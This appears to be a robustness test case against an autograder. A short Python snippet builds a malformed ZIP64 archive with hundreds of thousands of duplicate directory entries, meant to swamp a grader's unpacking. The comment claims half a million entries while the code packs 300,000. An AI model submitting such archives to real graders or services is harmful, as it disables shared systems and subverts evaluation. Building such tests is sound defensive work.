# A zip with half a million empty entries.
# promise: no dead grader
# status: broke
# score: 0
# reads: unpacks to more than anybody hands in
# %% handed_in
import io
import struct

name = b"a.ipynb"
entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 33, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0) + name
count = 300_000
directory = entry * count
end = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(directory), 0)
locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(directory), 1)
last = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
files["neuron.zip"] = directory + end + locator + last
